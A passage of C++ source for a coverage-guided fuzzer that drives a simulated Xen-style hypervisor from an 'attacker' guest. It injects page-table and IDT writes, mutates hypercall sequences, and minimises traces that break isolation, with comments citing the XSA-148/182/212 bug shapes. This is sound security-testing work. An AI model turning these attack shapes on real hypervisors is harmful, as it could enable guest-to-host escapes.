  const std::uint64_t b = splitmix64_next(s);
  std::seed_seq seq{
      static_cast<std::uint32_t>(a), static_cast<std::uint32_t>(a >> 32),
      static_cast<std::uint32_t>(b), static_cast<std::uint32_t>(b >> 32)};
  return std::mt19937_64{seq};
}

namespace {

std::string target_name(FuzzTarget target) {
  switch (target) {
    case FuzzTarget::OwnL1Slot: return "own L1 slot";
    case FuzzTarget::OwnL4Slot: return "own L4 slot";
    case FuzzTarget::IdtBytes: return "IDT gate bytes";
    case FuzzTarget::XenL3Slot: return "shared Xen L3 slot";
    case FuzzTarget::WildPhysical: return "wild physical address";
  }
  return "unknown";
}

/// A plausible-but-random PTE value: a frame somewhere in the machine plus
/// a random flag cocktail (biased towards present entries — non-present
/// injections are overwhelmingly inert).
std::uint64_t random_pte(std::mt19937_64& rng, std::uint64_t frames) {
  // Bias towards the low, populated frame region (hypervisor image, dom0,
  // guests all live there): a uniform draw over a mostly-empty machine
  // would make almost every injected entry point at free frames and tell
  // us nothing.
  const std::uint64_t frame =
      draw_below(rng, 4) == 0
          ? draw_below(rng, frames)
          : draw_below(rng, std::max<std::uint64_t>(frames / 32, 1));
  std::uint64_t flags = 0;
  if (draw_below(rng, 8) != 0) flags |= sim::Pte::kPresent;
  if (draw_below(rng, 2)) flags |= sim::Pte::kWritable;
  if (draw_below(rng, 4) != 0) flags |= sim::Pte::kUser;
  if (draw_below(rng, 8) == 0) flags |= sim::Pte::kPageSize;
  if (draw_below(rng, 16) == 0) flags |= sim::Pte::kNoExecute;
  return sim::Pte::make(sim::Mfn{frame}, flags).raw();
}

/// Injection target for one blind write (shared with the sequence fuzzer's
/// ArbitraryWrite generator).
void draw_injection(std::mt19937_64& rng, guest::VirtualPlatform& platform,
                    FuzzTarget target, std::uint64_t* address,
                    std::uint64_t* value) {
  guest::GuestKernel& attacker = platform.guest(0);
  const std::uint64_t frames = platform.memory().frame_count();
  *value = random_pte(rng, frames);
  switch (target) {
    case FuzzTarget::OwnL1Slot:
      *address = sim::mfn_to_paddr(attacker.l1_mfn(0)).raw() +
                 draw_below(rng, sim::kPtEntries) * 8;
      break;
    case FuzzTarget::OwnL4Slot:
      *address = sim::mfn_to_paddr(attacker.l4_mfn()).raw() +
                 draw_below(rng, sim::kPtEntries) * 8;
      break;
    case FuzzTarget::IdtBytes:
      *address = platform.hv().idt_base().raw() +
                 draw_below(rng, sim::kIdtVectors * sim::Idt::kGateBytes - 8);
      *value = rng();
      break;
    case FuzzTarget::XenL3Slot:
      *address = sim::mfn_to_paddr(platform.hv().xen_l3()).raw() +
                 draw_below(rng, sim::kPtEntries) * 8;
      break;
    case FuzzTarget::WildPhysical:
      *address = draw_below(rng, platform.memory().byte_size() - 8);
      *value = rng();
      break;
  }
}

/// One iteration: inject, activate, classify. The platform arrives at its
/// boot baseline (fresh or rewound — byte-identical either way).
FuzzOutcome run_one(const FuzzConfig& config, unsigned iteration,
                    guest::VirtualPlatform& platform, FuzzTarget* chosen) {
  std::mt19937_64 rng = rng_for(config.seed, iteration);
  guest::GuestKernel& attacker = platform.guest(0);
  ArbitraryAccessInjector injector{attacker};

  const auto target =
      static_cast<FuzzTarget>(draw_below(rng, kFuzzTargetCount));
  *chosen = target;
  std::uint64_t address = 0;
  std::uint64_t value = 0;
  draw_injection(rng, platform, target, &address, &value);

  if (!injector.write_u64(address, value, AddressMode::Physical)) {
    return FuzzOutcome::Refused;
  }

  // Activation workload: ordinary guest behaviour that would trip over the
  // injected state — touch own memory, take a page fault, raise a couple of
  // interrupt vectors, run the event loop.
  std::array<std::uint8_t, 8> buf{};
  for (unsigned i = 0; i < 4; ++i) {
    const sim::Pfn pfn{guest::kFirstFreePfn.raw() + draw_below(rng, 8)};
    (void)attacker.read_virt(attacker.pfn_va(pfn), buf);
  }
  (void)attacker.read_virt(sim::Vaddr{0xDEAD000000ULL}, buf);  // page fault
  (void)attacker.software_interrupt(
      static_cast<unsigned>(draw_below(rng, 256)));
  (void)attacker.handle_events();

  // Classification, most severe first.
  if (platform.hv().crashed()) return FuzzOutcome::HostCrash;
  if (platform.hv().cpu_hung()) return FuzzOutcome::CpuHang;
  const hv::AuditReport report = hv::audit_system(platform.hv());
  const bool isolation =
      report.has(hv::FindingKind::GuestWritablePageTable) ||
      report.has(hv::FindingKind::GuestWritableXenFrame) ||
      report.has(hv::FindingKind::GuestMapsForeignFrame);
  if (isolation) return FuzzOutcome::IsolationViolation;
  if (!report.clean()) return FuzzOutcome::DetectedByAudit;
  return FuzzOutcome::NoObservableEffect;
}

}  // namespace

std::string FuzzStats::render() const {
  std::ostringstream os;
  os << "randomized injections: " << iterations << " (refused: "
     << injections_refused << ")\n";
  for (const auto& [outcome, count] : outcomes) {
    os << "  " << to_string(outcome) << ": " << count << "\n";
  }
  os << "targets drawn:\n";
  for (const auto& [target, count] : targets) {
    os << "  " << target_name(target) << ": " << count << "\n";
  }
  return os.str();
}

FuzzStats run_random_injection_campaign(const FuzzConfig& config) {
  FuzzStats stats;
  stats.iterations = config.iterations;

  guest::PlatformConfig pc = config.platform;
  pc.version = config.version;
  pc.injector_enabled = true;

  // Warm path: one boot, then rewind to the baseline between iterations —
  // the same delta-restore machinery the campaign pool uses. A rewound
  // platform is byte-identical to a fresh boot, so outcome/refused/target
  // counts match the cold path exactly (regression-tested).
  std::unique_ptr<guest::VirtualPlatform> platform;
  std::unique_ptr<guest::PlatformBaseline> baseline;
  for (unsigned i = 0; i < config.iterations; ++i) {
    if (platform == nullptr) {
      platform = std::make_unique<guest::VirtualPlatform>(pc);
      ++stats.platform_boots;
      if (config.reuse_platform) {
        baseline = std::make_unique<guest::PlatformBaseline>(
            platform->baseline());
      }
    } else if (config.reuse_platform) {
      platform->restore(*baseline);
    } else {
      platform = std::make_unique<guest::VirtualPlatform>(pc);
      ++stats.platform_boots;
    }
    FuzzTarget target{};
    const FuzzOutcome outcome = run_one(config, i, *platform, &target);
    ++stats.outcomes[outcome];
    ++stats.targets[target];
    if (outcome == FuzzOutcome::Refused) ++stats.injections_refused;
  }
  return stats;
}

// ------------------------------------------------------------ coverage map

CoverageMap::CoverageMap() : bits_(total_points(), false) {}

namespace {

std::size_t coverage_index(std::size_t context, hv::PageType frame_type,
                           hv::ValidationBranch branch) {
  return (context * hv::kCoverageFrameTypes +
          static_cast<std::size_t>(frame_type)) *
             hv::kValidationBranchCount +
         static_cast<std::size_t>(branch);
}

std::string context_name(std::size_t context) {
  return context < kFuzzOpKindCount
             ? to_string(static_cast<FuzzOp::Kind>(context))
             : std::string{"activation"};
}

}  // namespace

bool CoverageMap::record(std::size_t context, hv::PageType frame_type,
                         hv::ValidationBranch branch) {
  const std::size_t idx = coverage_index(context, frame_type, branch);
  if (bits_[idx]) return false;
  bits_[idx] = true;
  ++points_;
  return true;
}

bool CoverageMap::covered(std::size_t context, hv::PageType frame_type,
                          hv::ValidationBranch branch) const {
  return bits_[coverage_index(context, frame_type, branch)];
}

std::string CoverageMap::render() const {
  std::ostringstream os;
  for (std::size_t c = 0; c < kCoverageContexts; ++c) {
    for (std::size_t f = 0; f < hv::kCoverageFrameTypes; ++f) {
      for (std::size_t b = 0; b < hv::kValidationBranchCount; ++b) {
        const auto ft = static_cast<hv::PageType>(f);
        const auto br = static_cast<hv::ValidationBranch>(b);
        if (covered(c, ft, br)) {
          os << context_name(c) << " x " << hv::to_string(ft) << " x "
             << hv::to_string(br) << "\n";
        }
      }
    }
  }
  return os.str();
}

// ----------------------------------------------------- trace serialization

namespace {

constexpr std::uint32_t kTraceMagic = 0x5A464949;  // "IIFZ" little-endian
constexpr std::uint8_t kTraceFormat = 1;

void put_u8(std::vector<std::uint8_t>& out, std::uint8_t v) {
  out.push_back(v);
}
void put_u32(std::vector<std::uint8_t>& out, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) out.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}
void put_u64(std::vector<std::uint8_t>& out, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) out.push_back(static_cast<std::uint8_t>(v >> (8 * i)));
}

/// Bounds-checked little-endian cursor; `ok` latches false on any overrun.
struct TraceReader {
  std::span<const std::uint8_t> bytes;
  std::size_t pos = 0;
  bool ok = true;

  std::uint8_t u8() {
    if (pos + 1 > bytes.size()) { ok = false; return 0; }
    return bytes[pos++];
  }
  std::uint32_t u32() {
    if (pos + 4 > bytes.size()) { ok = false; return 0; }
    std::uint32_t v = 0;
    for (int i = 0; i < 4; ++i) v |= std::uint32_t{bytes[pos++]} << (8 * i);
    return v;
  }
  std::uint64_t u64() {
    if (pos + 8 > bytes.size()) { ok = false; return 0; }
    std::uint64_t v = 0;
    for (int i = 0; i < 8; ++i) v |= std::uint64_t{bytes[pos++]} << (8 * i);
    return v;
  }
};

}  // namespace

std::vector<std::uint8_t> serialize_trace(const CorpusEntry& entry,
                                          hv::XenVersion version) {
  std::vector<std::uint8_t> out;
  put_u32(out, kTraceMagic);
  put_u8(out, kTraceFormat);
  put_u8(out, static_cast<std::uint8_t>(version.major));
  put_u8(out, static_cast<std::uint8_t>(version.minor));
  put_u32(out, static_cast<std::uint32_t>(entry.ops.size()));
  for (const FuzzOp& op : entry.ops) {
    put_u8(out, static_cast<std::uint8_t>(op.kind));
    put_u8(out, op.level);
    put_u64(out, op.addr);
    put_u64(out, op.value);
    put_u64(out, op.mfn);
    put_u64(out, op.pfn);
    put_u64(out, op.out);
    put_u32(out, op.gref);
    put_u32(out, op.version);
  }
  put_u8(out, static_cast<std::uint8_t>(entry.outcome));
  put_u32(out, static_cast<std::uint32_t>(entry.classes.size()));
  for (const auto c : entry.classes) {
    put_u8(out, static_cast<std::uint8_t>(c));
  }
  put_u64(out, entry.state_hash);
  return out;
}

std::optional<CorpusEntry> deserialize_trace(
    std::span<const std::uint8_t> bytes, hv::XenVersion* version) {
  TraceReader in{bytes};
  if (in.u32() != kTraceMagic) return std::nullopt;
  if (in.u8() != kTraceFormat) return std::nullopt;
  const int major = in.u8();
  const int minor = in.u8();
  const std::uint32_t n_ops = in.u32();
  if (!in.ok || n_ops > (1u << 20)) return std::nullopt;
  CorpusEntry entry;
  entry.ops.reserve(n_ops);
  for (std::uint32_t i = 0; i < n_ops; ++i) {
    FuzzOp op;
    const std::uint8_t kind = in.u8();
    if (kind >= kFuzzOpKindCount) return std::nullopt;
    op.kind = static_cast<FuzzOp::Kind>(kind);
    op.level = in.u8();
    op.addr = in.u64();
    op.value = in.u64();
    op.mfn = in.u64();
    op.pfn = in.u64();
    op.out = in.u64();
    op.gref = in.u32();
    op.version = in.u32();
    if (!in.ok) return std::nullopt;
    entry.ops.push_back(op);
  }
  const std::uint8_t outcome = in.u8();
  if (outcome > static_cast<std::uint8_t>(FuzzOutcome::CpuHang)) {
    return std::nullopt;
  }
  entry.outcome = static_cast<FuzzOutcome>(outcome);
  const std::uint32_t n_classes = in.u32();
  if (!in.ok || n_classes > analysis::kErroneousStateClassCount) {
    return std::nullopt;
  }
  for (std::uint32_t i = 0; i < n_classes; ++i) {
    const std::uint8_t c = in.u8();
    if (c >= analysis::kErroneousStateClassCount) return std::nullopt;
    entry.classes.push_back(static_cast<analysis::ErroneousStateClass>(c));
  }
  entry.state_hash = in.u64();
  if (!in.ok || in.pos != bytes.size()) return std::nullopt;
  if (version != nullptr) *version = hv::XenVersion{major, minor};
  return entry;
}

bool store_trace_file(const std::string& path, const CorpusEntry& entry,
                      hv::XenVersion version) {
  if (chaos_fire("fuzz.corpus_write_fail")) return false;
  const std::vector<std::uint8_t> bytes = serialize_trace(entry, version);
  std::ofstream os{path, std::ios::binary | std::ios::trunc};
  if (!os) return false;
  os.write(reinterpret_cast<const char*>(bytes.data()),
           static_cast<std::streamsize>(bytes.size()));
  return static_cast<bool>(os);
}

std::optional<CorpusEntry> load_trace_file(const std::string& path,
                                           hv::XenVersion* version) {
  if (chaos_fire("fuzz.corpus_read_fail")) return std::nullopt;
  std::ifstream is{path, std::ios::binary};
  if (!is) return std::nullopt;
  const std::vector<std::uint8_t> bytes{std::istreambuf_iterator<char>(is),
                                        std::istreambuf_iterator<char>()};
  return deserialize_trace(bytes, version);
}

// --------------------------------------------------------- trace execution

namespace {

/// CoverageHook bridging the hypervisor's validation branches into the
/// fuzzer's map, keyed by which op (or the activation workload) was driving
/// the hypervisor when the branch fired.
class MapHook final : public hv::CoverageHook {
 public:
  CoverageMap* map = nullptr;
  std::size_t context = kFuzzOpKindCount;
  unsigned fresh = 0;

  void on_branch(hv::ValidationBranch branch,
                 hv::PageType frame_type) override {
    if (map != nullptr && map->record(context, frame_type, branch)) ++fresh;
  }
};

/// Apply one FuzzOp through the real guest-facing interfaces — the same
/// dispatch the model checker uses, plus the injector hypercall.
long apply_fuzz_op(guest::VirtualPlatform& platform, const FuzzOp& op) {
  using Kind = FuzzOp::Kind;
  hv::Hypervisor& vmm = platform.hv();
  guest::GuestKernel& attacker = platform.guest(0);
  const hv::DomainId caller = attacker.id();
  switch (op.kind) {
    case Kind::ArbitraryWrite: {
      ArbitraryAccessInjector injector{attacker};
      if (injector.write_u64(op.addr, op.value, AddressMode::Physical)) {
        return hv::kOk;
      }
      const long rc = injector.last_rc();
      return rc != hv::kOk ? rc : hv::kEINVAL;
    }
    case Kind::MmuUpdate: {
      const hv::MmuUpdate req{op.addr | hv::kMmuNormalPtUpdate, op.value};
      return vmm.hypercall_mmu_update(caller, std::span{&req, 1});
    }
    case Kind::Pin: {
      const auto cmd = static_cast<hv::MmuExtCmd>(
          static_cast<int>(hv::MmuExtCmd::PinL1Table) + op.level - 1);
      return vmm.hypercall_mmuext_op(caller,
                                     hv::MmuExtOp{cmd, sim::Mfn{op.mfn}});
    }
    case Kind::Unpin:
      return vmm.hypercall_mmuext_op(
          caller, hv::MmuExtOp{hv::MmuExtCmd::UnpinTable, sim::Mfn{op.mfn}});
    case Kind::NewBaseptr:
      return vmm.hypercall_mmuext_op(
          caller, hv::MmuExtOp{hv::MmuExtCmd::NewBaseptr, sim::Mfn{op.mfn}});
    case Kind::Exchange: {
      hv::MemoryExchange exch{{sim::Pfn{op.pfn}}, sim::Vaddr{op.out}, 0};
      return vmm.hypercall_memory_exchange(caller, exch);
    }
    case Kind::GrantSetVersion:
      return vmm.grants().set_version(caller, op.version);
    case Kind::GrantAccess:
      return vmm.grants().grant_access(caller, op.gref, hv::kDom0,
                                       sim::Pfn{op.pfn}, /*readonly=*/false);
    case Kind::GrantEndAccess:
      return vmm.grants().end_access(caller, op.gref);
  }
  return hv::kEINVAL;
}

/// Execute `ops` then the activation workload on a platform that is at its
/// boot baseline, recording coverage into `map` (when given) and
/// classifying what is left. The activation workload is deliberately
/// RNG-free: replaying a trace's ops must reproduce its recorded result
/// bit-for-bit, so everything the execution does is a pure function of the
/// ops and the boot layout.
TraceResult execute_trace(guest::VirtualPlatform& platform,
                          std::span<const FuzzOp> ops, CoverageMap* map) {
  MapHook hook;
  hook.map = map;
  hv::Hypervisor& vmm = platform.hv();
  if (map != nullptr) vmm.set_coverage_hook(&hook);
  guest::GuestKernel& attacker = platform.guest(0);

  TraceResult result;
  for (const FuzzOp& op : ops) {
    hook.context = static_cast<std::size_t>(op.kind);
    const long rc = apply_fuzz_op(platform, op);
    ++result.ops_executed;
    if (rc != hv::kOk) ++result.ops_refused;
    if (vmm.crashed() || vmm.cpu_hung()) break;
  }

  if (!vmm.crashed() && !vmm.cpu_hung()) {
    hook.context = kFuzzOpKindCount;
    std::array<std::uint8_t, 8> buf{};
    for (unsigned i = 0; i < 4; ++i) {
      const sim::Pfn pfn{guest::kFirstFreePfn.raw() + i};
      (void)attacker.read_virt(attacker.pfn_va(pfn), buf);
    }
    (void)attacker.read_virt(sim::Vaddr{0xDEAD000000ULL}, buf);  // page fault
    (void)attacker.software_interrupt(3);
    (void)attacker.software_interrupt(14);
    (void)attacker.handle_events();
  }
  vmm.set_coverage_hook(nullptr);
  result.new_coverage = hook.fresh;

  if (vmm.crashed()) {
    result.outcome = FuzzOutcome::HostCrash;
  } else if (vmm.cpu_hung()) {
    result.outcome = FuzzOutcome::CpuHang;
  } else {
    const hv::SystemWalk walk = hv::walk_system(vmm);
    const hv::InvariantReport report = hv::InvariantAuditor{vmm}.audit(walk);
    if (!report.clean()) {
      result.outcome = FuzzOutcome::IsolationViolation;
      result.classes = analysis::classify_erroneous_state(vmm, walk, report);
    } else if (!hv::audit_system(vmm, walk).clean()) {
      result.outcome = FuzzOutcome::DetectedByAudit;
    } else if (!ops.empty() && result.ops_refused == ops.size()) {
      result.outcome = FuzzOutcome::Refused;
    } else {
      result.outcome = FuzzOutcome::NoObservableEffect;
    }
  }
  result.state_hash = vmm.state_hash();
  return result;
}

// --------------------------------------------------------- trace generation

FuzzOp random_op_of_kind(std::mt19937_64& rng,
                         guest::VirtualPlatform& platform,
                         FuzzOp::Kind kind) {
  using Kind = FuzzOp::Kind;
  guest::GuestKernel& attacker = platform.guest(0);
  const std::uint64_t frames = platform.memory().frame_count();
  // The attacker's own table frames: the targets the validation engine has
  // opinions about (self maps, PSE windows, pin/unpin type churn).
  const std::array<std::uint64_t, 3> tables{attacker.l1_mfn(0).raw(),
                                            attacker.l2_mfn().raw(),
                                            attacker.l4_mfn().raw()};
  FuzzOp op;
  op.kind = kind;
  switch (kind) {
    case Kind::ArbitraryWrite: {
      const auto target =
          static_cast<FuzzTarget>(draw_below(rng, kFuzzTargetCount));
      draw_injection(rng, platform, target, &op.addr, &op.value);
      break;
    }
    case Kind::MmuUpdate: {
      const std::uint64_t table = tables[draw_below(rng, tables.size())];
      std::uint64_t slot = draw_below(rng, sim::kPtEntries);
      const std::uint64_t bias = draw_below(rng, 8);
      if (bias == 0) slot = hv::kLinearPtSlot;
      else if (bias == 1) slot = hv::kXenFirstReservedSlot;
      op.addr = sim::mfn_to_paddr(sim::Mfn{table}).raw() + slot * 8;
      if (draw_below(rng, 4) == 0) {
        // Table-pointing PTE — the XSA-148/182 erroneous-state shapes.
        std::uint64_t flags =
            sim::Pte::kPresent | sim::Pte::kUser | sim::Pte::kWritable;
        if (draw_below(rng, 2) == 0) flags |= sim::Pte::kPageSize;
        op.value = sim::Pte::make(
                       sim::Mfn{tables[draw_below(rng, tables.size())]},
                       flags)
                       .raw();
      } else {
        op.value = random_pte(rng, frames);
      }
      break;
    }
    case Kind::Pin:
      op.level = static_cast<std::uint8_t>(1 + draw_below(rng, 4));
      op.mfn = draw_below(rng, 2) == 0 ? tables[draw_below(rng, tables.size())]
                                       : draw_below(rng, frames);
      break;
    case Kind::Unpin:
    case Kind::NewBaseptr:
      op.mfn = draw_below(rng, 2) == 0 ? tables[draw_below(rng, tables.size())]
                                       : draw_below(rng, frames);
      break;
    case Kind::Exchange:
      op.pfn = draw_below(rng, 2) == 0
                   ? guest::kFirstFreePfn.raw()
                   : draw_below(rng, attacker.nr_pages());
      // Output-pointer targets, in rising hostility: own data page, the
      // hypervisor's IDT through the directmap (the XSA-212 shape), Xen
      // text, a random own page.
      switch (draw_below(rng, 4)) {
        case 0:
          op.out = hv::guest_directmap_vaddr(
                       sim::Pfn{guest::kFirstFreePfn.raw() + 1})
                       .raw();
          break;
        case 1:
          op.out = hv::directmap_vaddr(platform.hv().idt_base()).raw();
          break;
        case 2:
          op.out = hv::kXenTextBase;
          break;
        default:
          op.out = hv::guest_directmap_vaddr(
                       sim::Pfn{draw_below(rng, attacker.nr_pages())})
                       .raw();
          break;
      }
      break;
    case Kind::GrantSetVersion:
      op.version = static_cast<std::uint32_t>(1 + draw_below(rng, 2));
      break;
    case Kind::GrantAccess:
      op.gref = static_cast<std::uint32_t>(draw_below(rng, 2));
      op.pfn = guest::kFirstFreePfn.raw() + draw_below(rng, 4);
      break;
    case Kind::GrantEndAccess:
      op.gref = static_cast<std::uint32_t>(draw_below(rng, 2));
      break;
  }
  return op;
}

FuzzOp random_op(std::mt19937_64& rng, guest::VirtualPlatform& platform) {
  return random_op_of_kind(
      rng, platform,
      static_cast<FuzzOp::Kind>(draw_below(rng, kFuzzOpKindCount)));
}

std::vector<FuzzOp> random_trace(std::mt19937_64& rng,
                                 guest::VirtualPlatform& platform,
                                 unsigned max_ops) {
  const std::uint64_t n = 1 + draw_below(rng, std::max(1u, max_ops));
  std::vector<FuzzOp> ops;
  ops.reserve(n);
  for (std::uint64_t i = 0; i < n; ++i) ops.push_back(random_op(rng, platform));
  return ops;
}

/// One corpus entry plus its scheduler energy (recent coverage yield).
struct ScoredEntry {
  CorpusEntry entry;
  std::uint64_t energy = 0;
};

/// The mutation dictionary: frames the validation engine treats specially —
/// the attacker's own tables, a *foreign* guest's tables, dom0's root, the
/// shared Xen L3 and the IDT frame. Uniform mfn draws almost never land on
/// these (each is one frame in thousands), so structured operand tweaks
/// against this pool are coverage the blind generator cannot cheaply reach:
/// foreign-frame and Xen-frame rejections across every op kind.
std::vector<std::uint64_t> interesting_mfns(guest::VirtualPlatform& platform) {
  guest::GuestKernel& attacker = platform.guest(0);
  std::vector<std::uint64_t> mfns{
      attacker.l1_mfn(0).raw(), attacker.l2_mfn().raw(),
      attacker.l4_mfn().raw(), platform.dom0().l4_mfn().raw(),
      platform.dom0().l1_mfn(0).raw(), platform.hv().xen_l3().raw(),
      sim::paddr_to_mfn(platform.hv().idt_base()).raw()};
  if (platform.config().n_guests > 1) {
    mfns.push_back(platform.guest(1).l4_mfn().raw());
    mfns.push_back(platform.guest(1).l1_mfn(0).raw());
  }
  return mfns;
}

/// Structured operand tweak — the dictionary mutator. Flag flips, ±1
/// slides and interesting-frame retargets, applied in place to one op.
void tweak_op(std::mt19937_64& rng, guest::VirtualPlatform& platform,
              FuzzOp& op) {
  using Kind = FuzzOp::Kind;
  const std::vector<std::uint64_t> pool = interesting_mfns(platform);
  const auto pick = [&]() { return pool[draw_below(rng, pool.size())]; };
  switch (op.kind) {
    case Kind::ArbitraryWrite:
      switch (draw_below(rng, 3)) {
        case 0:  // retarget the write at an interesting frame's slots
          op.addr = sim::mfn_to_paddr(sim::Mfn{pick()}).raw() +
                    draw_below(rng, sim::kPtEntries) * 8;
          break;
        case 1:  // flip one PTE-flag bit of the value
          op.value ^= std::uint64_t{1} << draw_below(rng, 8);
          break;
        default:  // repoint the value's frame
          op.value = sim::Pte::make(sim::Mfn{pick()},
                                    sim::Pte{op.value}.flags())
                         .raw();
          break;
      }
      break;
    case Kind::MmuUpdate:
      switch (draw_below(rng, 4)) {
        case 0:  // slide the slot
          op.addr += draw_below(rng, 2) == 0 ? 8 : -8;
          break;
        case 1:  // retarget the slot at an interesting table
          op.addr = sim::mfn_to_paddr(sim::Mfn{pick()}).raw() +
                    draw_below(rng, sim::kPtEntries) * 8;
          break;
        case 2:  // flip one flag bit
          op.value ^= std::uint64_t{1} << draw_below(rng, 8);
          break;
        default:  // repoint the entry at an interesting frame
          op.value = sim::Pte::make(sim::Mfn{pick()},
                                    sim::Pte{op.value}.flags())
                         .raw();
          break;
      }
      break;
    case Kind::Pin:
      if (draw_below(rng, 2) == 0) {
        op.level = static_cast<std::uint8_t>(1 + draw_below(rng, 4));
      }
      [[fallthrough]];
    case Kind::Unpin:
    case Kind::NewBaseptr:
      op.mfn = draw_below(rng, 3) == 0 ? op.mfn + 1 : pick();
      break;
    case Kind::Exchange:
      if (draw_below(rng, 2) == 0) {
        op.pfn += draw_below(rng, 2) == 0 ? 1 : -1;
      } else {
        op.out = hv::directmap_vaddr(
                     sim::mfn_to_paddr(sim::Mfn{pick()}))
                     .raw();
      }
      break;
    case Kind::GrantSetVersion:
      op.version = op.version == 2 ? 1 : 2;
      break;
    case Kind::GrantAccess:
      if (draw_below(rng, 2) == 0) op.gref += 1;
      else op.pfn += draw_below(rng, 2) == 0 ? 1 : -1;
      break;
    case Kind::GrantEndAccess:
      op.gref += draw_below(rng, 2) == 0 ? 1 : 0;
      break;
  }
}

std::vector<FuzzOp> mutate_trace(std::mt19937_64& rng,
                                 guest::VirtualPlatform& platform,
                                 std::vector<FuzzOp> ops,
                                 const std::vector<ScoredEntry>& corpus,
                                 unsigned max_ops) {
  const std::uint64_t limit = std::uint64_t{2} * std::max(1u, max_ops);
  // Stack one or two mutation steps, biased heavily towards *extension*:
  // a corpus entry earned its place by driving the validation engine
  // somewhere, and the cheap way to new coverage is issuing further ops
  // from that deeper state — the greybox argument. Destructive operators
  // (replace, truncate) stay in the mix at low weight for diversity.
  const std::uint64_t rounds = 1 + draw_below(rng, 2);
  for (std::uint64_t round = 0; round < rounds; ++round) {
    switch (draw_below(rng, 10)) {
      case 0:
      case 1: {  // append a burst of fresh ops (2/10)
        if (ops.size() < limit) {
          const std::uint64_t burst = 1 + draw_below(rng, 3);
          for (std::uint64_t b = 0; b < burst && ops.size() < limit; ++b) {
            ops.push_back(random_op(rng, platform));
          }
          break;
        }
        [[fallthrough]];
      }
      case 2: {  // insert a fresh op at a random position
        if (ops.size() < limit) {
          const std::size_t pos = draw_below(rng, ops.size() + 1);
          ops.insert(ops.begin() + static_cast<std::ptrdiff_t>(pos),
                     random_op(rng, platform));
          break;
        }
        [[fallthrough]];
      }
      case 3:
      case 4:
      case 5:
      case 6: {  // dictionary tweak of one op's operands (4/10)
        tweak_op(rng, platform, ops[draw_below(rng, ops.size())]);
        break;
      }
      case 7: {  // replace one op wholesale
        const std::size_t pos = draw_below(rng, ops.size());
        ops[pos] = random_op(rng, platform);
        break;
      }
      case 8: {  // splice: our prefix + another corpus entry's suffix
        if (!corpus.empty()) {
          const std::vector<FuzzOp>& other =
              corpus[draw_below(rng, corpus.size())].entry.ops;
          if (!other.empty()) {
            const std::size_t keep = 1 + draw_below(rng, ops.size());
            const std::size_t from = draw_below(rng, other.size());
            ops.resize(keep);
            for (std::size_t i = from;
                 i < other.size() && ops.size() < limit; ++i) {
              ops.push_back(other[i]);
            }
            break;
          }
        }
        ops.push_back(random_op(rng, platform));  // no donor: grow instead
        break;
      }
      default: {  // truncate to a nonempty prefix (1/10)
        const std::size_t keep = 1 + draw_below(rng, ops.size());
        ops.resize(keep);
        break;
      }
    }
  }
  if (ops.empty()) ops.push_back(random_op(rng, platform));
  return ops;
}

// -------------------------------------------------------------- minimizer

/// The signature minimization must preserve: same classified outcome, same
/// erroneous-state families.
bool same_signature(const TraceResult& result, FuzzOutcome outcome,
                    const std::vector<analysis::ErroneousStateClass>& classes) {
  return result.outcome == outcome && result.classes == classes;
}

/// ddmin-lite: repeatedly delete chunks (halving the chunk size down to
/// single ops) as long as the signature survives, to a fixpoint or the
/// execution budget. The coverage map is deliberately detached: probe
/// executions must not pollute the feedback signal.
std::vector<FuzzOp> minimize_trace_impl(
    guest::VirtualPlatform& platform, const guest::PlatformBaseline& baseline,
    std::vector<FuzzOp> ops, FuzzOutcome outcome,
    const std::vector<analysis::ErroneousStateClass>& classes,
    unsigned budget, unsigned* execs) {
  bool shrunk = true;
  while (shrunk && ops.size() > 1) {
    shrunk = false;
    for (std::size_t chunk = ops.size() / 2; chunk >= 1; chunk /= 2) {
      std::size_t start = 0;
      while (start < ops.size() && ops.size() > 1) {
        if (*execs >= budget) return ops;
        std::vector<FuzzOp> candidate;
        candidate.reserve(ops.size());
        candidate.insert(candidate.end(), ops.begin(),
                         ops.begin() + static_cast<std::ptrdiff_t>(start));
        candidate.insert(
            candidate.end(),
            ops.begin() + static_cast<std::ptrdiff_t>(
                              std::min(start + chunk, ops.size())),
            ops.end());
        if (candidate.empty()) {
          start += chunk;
          continue;
        }
        ++*execs;
        platform.restore(baseline);
        const TraceResult probe = execute_trace(platform, candidate, nullptr);
        if (same_signature(probe, outcome, classes)) {
          ops = std::move(candidate);
          shrunk = true;  // retry the same start at this size
        } else {
          start += chunk;
        }
      }
      if (chunk == 1) break;
    }
  }
  return ops;
}

}  // namespace

// ------------------------------------------------------------ entry points

TraceResult replay_trace(const SeqFuzzConfig& config,
                         std::span<const FuzzOp> ops, CoverageMap* map) {
  guest::PlatformConfig pc = config.platform;
  pc.version = config.version;
  pc.injector_enabled = true;
  guest::VirtualPlatform platform{pc};
  return execute_trace(platform, ops, map);
}

unsigned SeqFuzzStats::novel_survivors() const {
  unsigned n = 0;
  for (const Survivor& s : survivors) n += s.novel ? 1 : 0;
  return n;
}

std::string SeqFuzzStats::render() const {
  std::ostringstream os;
  os << "sequence fuzzer: " << iterations << " iterations, "
     << (guided ? "guided" : "blind") << ", seed " << seed << "\n";
  os << "coverage: " << coverage_points << "/" << CoverageMap::total_points()
     << " points\n";
  os << "corpus: " << corpus_entries << " entries\n";
  os << "outcomes:\n";
  for (const auto& [outcome, count] : outcomes) {
    os << "  " << to_string(outcome) << ": " << count << "\n";
  }
  if (!class_hits.empty()) {
    os << "erroneous-state classes:\n";
    for (const auto& [c, count] : class_hits) {
      os << "  " << analysis::to_string(c) << ": " << count << "\n";
    }
  }
  os << "survivors: " << survivors.size() << " (novel: " << novel_survivors()
     << ")\n";
  for (std::size_t i = 0; i < survivors.size(); ++i) {
    const Survivor& s = survivors[i];
    os << "  #" << i << ": iteration " << s.found_iteration << ", ops "
       << s.raw_ops << " -> " << s.entry.ops.size() << ", "
       << to_string(s.entry.outcome);
    for (const auto c : s.entry.classes) {
      os << " [" << analysis::to_string(c) << "]";
    }
    os << (s.novel ? " NOVEL" : "") << std::hex << ", hash 0x"
       << s.entry.state_hash << std::dec;
    if (!s.file.empty()) os << ", " << s.file;
    os << "\n";
  }
  os << "ops: executed " << ops_executed << ", refused " << ops_refused
     << "\n";
  os << "minimizer executions: " << minimizer_execs << "\n";
  if (!coverage_curve.empty()) {
    os << "coverage curve:";
    for (const std::size_t p : coverage_curve) os << " " << p;
    os << "\n";
  }
  return os.str();
}

SeqFuzzStats run_sequence_fuzzer(const SeqFuzzConfig& config) {
